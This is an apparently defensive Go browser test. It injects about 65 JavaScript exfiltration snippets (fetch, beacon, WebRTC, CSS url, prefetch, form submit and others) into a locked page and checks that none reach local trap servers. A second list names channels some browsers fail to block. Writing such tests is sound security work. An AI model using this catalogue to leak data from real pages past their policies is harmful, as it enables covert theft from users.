//go:build !js

package main

import (
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"offercheck/app/drive"
	"offercheck/app/site"
)

// A sink is a way in which a page may send something to a server: a script in which $ is an
// address, which has the marker in its query. One that makes a connection and asks for
// nothing has $$ instead, an address of its own.
type sink struct{ name, script string }

// sinks is those that the page must refuse, in every browser.
var sinks = []sink{
	{"fetch", `fetch($).catch(() => {})`},
	{"fetch without cors", `fetch($, { mode: "no-cors", keepalive: true }).catch(() => {})`},
	{"fetch later", `fetchLater($, { activateAfter: 0 })`},
	{"XMLHttpRequest", `{ const r = new XMLHttpRequest(); r.open("POST", $); r.send("x"); }`},
	{"beacon", `navigator.sendBeacon($, "x")`},
	{"WebSocket", `new WebSocket($.replace("http", "ws"))`},
	{"EventSource", `new EventSource($)`},
	{"image", `new Image().src = $`},
	{"image set", `document.body.append(Object.assign(document.createElement("img"), { srcset: $ + " 2x" }))`},
	{"image of another document", `document.implementation.createHTMLDocument("").body.innerHTML = "<img src='" + $ + "'>"`},
	{"image of a button", `document.body.append(Object.assign(document.createElement("input"), { type: "image", src: $ }))`},
	{"background", `document.body.setAttribute("background", $)`},
	{"attribution", `document.body.append(Object.assign(document.createElement("img"), { attributionSrc: $ }))`},
	{"style sheet", `document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: $ }))`},
	{"style element", `document.head.append(Object.assign(document.createElement("style"), { textContent: "body { background: url(" + $ + ") }" }))`},
	{"style attribute", `document.body.setAttribute("style", "background: url(" + $ + ")")`},
	{"style of an element", `document.body.style.backgroundImage = "url(" + $ + ")"`},
	{"rule of a style sheet", `document.styleSheets[0].insertRule("main { background: url(" + $ + ") }", 0)`},
	{"import of a style sheet", `document.styleSheets[0].insertRule("@import url(" + $ + ")", 0)`},
	{"style sheet of a script", `{ const s = new CSSStyleSheet(); s.replaceSync("body { list-style-image: url(" + $ + ") } main { display: list-item }"); document.adoptedStyleSheets = [s]; }`},
	{"icon", `document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: $ }))`},
	{"manifest", `document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: $ }))`},
	{"preload", `document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "script", href: $ }))`},
	{"preload of an image", `document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "image", href: $ }))`},
	{"preload of a file", `document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: $, crossOrigin: "" }))`},
	{"module preload", `document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: $ }))`},
	{"prefetch", `document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: $ }))`},
	{"prerender", `document.head.append(Object.assign(document.createElement("link"), { rel: "prerender", href: $ }))`},
	{"speculation", `document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [$] }] }) }))`},
	{"script", `document.head.append(Object.assign(document.createElement("script"), { src: $ }))`},
	{"import", `import($).catch(() => {})`},
	{"font", `new FontFace("x", "url(" + $ + ")").load().catch(() => {})`},
	{"font of a style sheet", `document.styleSheets[0].insertRule("@font-face { font-family: leaky; src: url(" + $ + ") }", 0), document.body.style.fontFamily = "leaky"`},
	{"audio", `new Audio($).play().catch(() => {})`},
	{"video", `document.body.append(Object.assign(document.createElement("video"), { src: $, preload: "auto" }))`},
	{"video poster", `document.body.append(Object.assign(document.createElement("video"), { poster: $ }))`},
	{"track", `{ const v = document.createElement("video"); v.append(Object.assign(document.createElement("track"), { src: $, default: true })); document.body.append(v); }`},
	{"frame", `document.body.append(Object.assign(document.createElement("iframe"), { src: $ }))`},
	{"image in a frame", `document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<img src='" + $ + "'>" }))`},
	{"fetch in an empty frame", `{ const f = document.createElement("iframe"); document.body.append(f); setTimeout(() => f.contentWindow.fetch($).catch(() => {}), 300); }`},
	{"object", `document.body.append(Object.assign(document.createElement("object"), { data: $ }))`},
	{"embed", `document.body.append(Object.assign(document.createElement("embed"), { src: $ }))`},
	{"worker", `new Worker($)`},
	{"worker of a text", `new Worker(URL.createObjectURL(new Blob(["fetch('" + $ + "')"])))`},
	{"shared worker", `new SharedWorker($)`},
	{"service worker", `navigator.serviceWorker.register($).catch(() => {})`},
	{"ping", `{ const a = Object.assign(document.createElement("a"), { href: "#x", ping: $ }); document.body.append(a); a.click(); }`},
	{"SVG image", `document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + $ + "'/></svg>")`},
	{"SVG use", `document.body.insertAdjacentHTML("beforeend", "<svg><use href='" + $ + "#x'/></svg>")`},
	{"XSLT", `{ const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString("<x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:import href='" + $ + "'/></x:stylesheet>", "text/xml")); p.transformToFragment(document, document); }`},
	{"call to a browser", `{ const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL($$).host }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); }`},
	{"WebTransport", `new WebTransport($.replace("http:", "https:"))`},
	{"worklet", `CSS.paintWorklet?.addModule($).catch(() => {})`},
	{"audio worklet", `new AudioContext().audioWorklet.addModule($).catch(() => {})`},
	{"form", `{ const f = Object.assign(document.createElement("form"), { action: $, method: "post" }); document.body.append(f); f.submit(); }`}, // the last: it leaves a page that does not refuse it
}

// leaving is those that some browser does not refuse, whatever the page's rules. A click
// comes before each, without which browsers open no window.
var leaving = []sink{
	{"preconnect", `document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: $$ }))`},
	{"call from an empty frame", `{ const f = document.createElement("iframe"); document.body.append(f); setTimeout(() => { const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL($$).host }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); }, 300); }`},
	{"call from an empty window", `{ const f = window.open("about:blank"); setTimeout(() => { const c = new f.RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL($$).host }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); }, 300); }`},
	{"fetch in an empty window", `{ const f = window.open("about:blank"); setTimeout(() => f.fetch($).catch(() => {}), 300); }`},
	{"window", `window.open($)`},
	{"link to a new window", `{ const a = Object.assign(document.createElement("a"), { href: $, target: "_blank" }); document.body.append(a); a.click(); }`},
	{"download", `{ const a = Object.assign(document.createElement("a"), { href: $, download: "x" }); document.body.append(a); a.click(); }`},
	{"report of an empty frame", `{ document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "Content-Security-Policy", content: "connect-src 'none'; report-uri " + $ })); const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("/none").catch(() => {}); }`},
	{"refresh", `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0; url=" + $ }))`},
	{"navigation", `location.href = $`},
}

// A trap is the own host and another one, which write down what reaches them.
type trap struct {
	testing.TB
	own   http.Handler
	other string // its address

	mu      sync.Mutex
	arrived map[string]bool // "own: fetch"
	count   map[string]int  // how often anything of a sink has arrived, anywhere
}

// newTrap also serves a page at control/, which refuses nothing.
func newTrap(t testing.TB) *trap {
	t.Helper()
	if err := built(); err != nil {
		t.Fatal(err)
	}
	p := &trap{TB: t, arrived: map[string]bool{}, count: map[string]int{}}
	other := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { p.note("other", r) }))
	t.Cleanup(other.Close)
	p.other = other.URL
	host := site.Handler(siteDir, base)
	p.own = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.note("own", r)
		switch r.URL.Path {
		case base + "control/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<!doctype html><title>control</title><link rel="stylesheet" href="sheet"><main><h1>control</h1></main>`)
		case base + "control/sheet":
			w.Header().Set("Content-Type", "text/css")
			fmt.Fprint(w, `main { color: black }`)
		default:
			host.ServeHTTP(w, r)
		}
	})
	return p
}

func (p *trap) note(host string, r *http.Request) {
	if name := r.URL.Query().Get("leak"); name != "" {
		p.add(host, name)
	}
}

func (p *trap) add(host, name string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.arrived[host+": "+name] = true
	p.count[name]++
}

// times is how often anything of a sink has arrived.
func (p *trap) times(name string) int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.count[name]
}

// awaits waits until something of each sink has arrived, as long as a busy machine may take.
func (p *trap) awaits(names ...string) {
	for end := time.Now().Add(2 * time.Minute); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		if !slices.ContainsFunc(names, func(name string) bool { return p.times(name) == 0 }) {
			return
		}
	}
}

// take is what has arrived since it was last taken.
func (p *trap) take() []string {
	time.Sleep(2 * time.Second) // for what is on its way
	p.mu.Lock()
	defer p.mu.Unlock()
	all := slices.Sorted(maps.Keys(p.arrived))
	clear(p.arrived)
	return all
}

// quiet is an address of a sink's own, at which a connection or a packet is noticed.
func (p *trap) quiet(name string) string {
	p.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		p.Fatal(err)
	}
	packets, err := net.ListenPacket("udp", l.Addr().String())
	if err != nil {
		p.Fatal(err)
	}
	p.Cleanup(func() { l.Close(); packets.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			p.add("other", name)
			c.Close()
		}
	}()
	go func() {
		for b := make([]byte, 1500); ; {
			if _, _, err := packets.ReadFrom(b); err != nil {
				return
			}
			p.add("other", name)
		}
	}()
	return "http://" + l.Addr().String()
}

// hosts is the two that every sink is tried with.
var hosts = []string{"own", "other"}

// try is the script of a sink, to one of the hosts.
func (p *trap) try(s sink, host string) string {
	to := quote(p.other + "/x?leak=")
	if host == "own" {
		to = `location.origin + ` + quote(base+"x?leak=")
	}
	script := s.script
	if strings.Contains(script, "$$") {
		script = strings.ReplaceAll(script, "$$", quote(p.quiet(s.name)))
	}
	return `(() => { try { ` + strings.ReplaceAll(script, "$", `(`+to+` + encodeURIComponent(`+quote(s.name)+`))`) + ` } catch {} return true })()`
}

// tries runs sinks in a window. With load, each comes after a click, on the page that load
// opens, again if it was left; those that some are expected of are waited for.
func (p *trap) tries(w window, all []sink, load func(), expected ...string) {
	p.Helper()
	for _, s := range all {
		for _, host := range hosts {
			if load == nil {
				eval[bool](w, p.try(s, host))
				continue
			}
			if there, err := w.Value(`window.here === true`); err != nil || string(there) != "true" {
				load()
				eval[bool](w, `window.here = true`)
			}
			eval[bool](w, `addEventListener("click", () => `+p.try(s, host)+`, { once: true }), true`)
			before := p.times(s.name)
			w.Click("h1")
			time.Sleep(700 * time.Millisecond) // for what must not arrive
			if slices.Contains(expected, s.name) {
				for end := time.Now().Add(time.Minute); p.times(s.name) == before && time.Now().Before(end); {
					time.Sleep(50 * time.Millisecond)
				}
			}
		}
	}
}

// locked opens a page whose program runs and has locked it.
func locked(w window) {
	w.Helper()
	w.Load("/tasks/")
	w.Wait(`document.querySelectorAll("meta[http-equiv=Content-Security-Policy]").length > 1`)
}

// TestNothingIsSent tries every sink from a page whose program runs, with the worker in
// between and without, to the own host and to another one. Nothing may arrive at either.
func TestNothingIsSent(t *testing.T) {
	for _, worker := range []bool{true, false} {
		t.Run(fmt.Sprintf("worker %v", worker), func(t *testing.T) {
			p := newTrap(t)
			w := drive.Open(t, p.own, base)
			w.Allow("Content Security Policy", "Trusted", "leak=", "RTCPeerConnection", "WebTransport", "ERR_", "not defined", "Refused")
			if !worker {
				w.InitScript(withoutWorker)
			}
			locked(w)
			if worker {
				w.Wait(drive.Controlled)
			}
			p.tries(w, sinks, nil)
			if eval[bool](w, `"RTCPeerConnection" in window || "WebTransport" in window`) {
				t.Error("the page can call other browsers, which no server here would see")
			}
			refusesTexts(w)
			for _, name := range p.take() {
				t.Errorf("arrived at %s", name)
			}
		})
	}
}

// refusesTexts tries whatever makes HTML or a script of a text. A browser without Trusted
// Types takes them.
func refusesTexts(w window) {
	w.Helper()
	if !eval[bool](w, `"trustedTypes" in window`) {
		return
	}
	for _, script := range []string{
		`document.body.insertAdjacentHTML("beforeend", "<p>x</p>")`, `document.createElement("p").innerHTML = "x"`, `document.write("x")`,
		`document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "x" }))`, `new DOMParser().parseFromString("x", "text/html")`,
		`document.createElement("script").text = "1"`, `trustedTypes.createPolicy("default", {})`,
	} {
		if eval[bool](w, `(() => { try { `+script+`; return true } catch { return false } })()`) {
			w.Errorf("the page takes a text as HTML or as a script: %s", script)
		}
	}
}

// withoutWorker is a script that keeps a page from having one.
const withoutWorker = `addEventListener("DOMContentLoaded", () => { if (navigator.serviceWorker) navigator.serviceWorker.register = () => new Promise(() => {}); })`
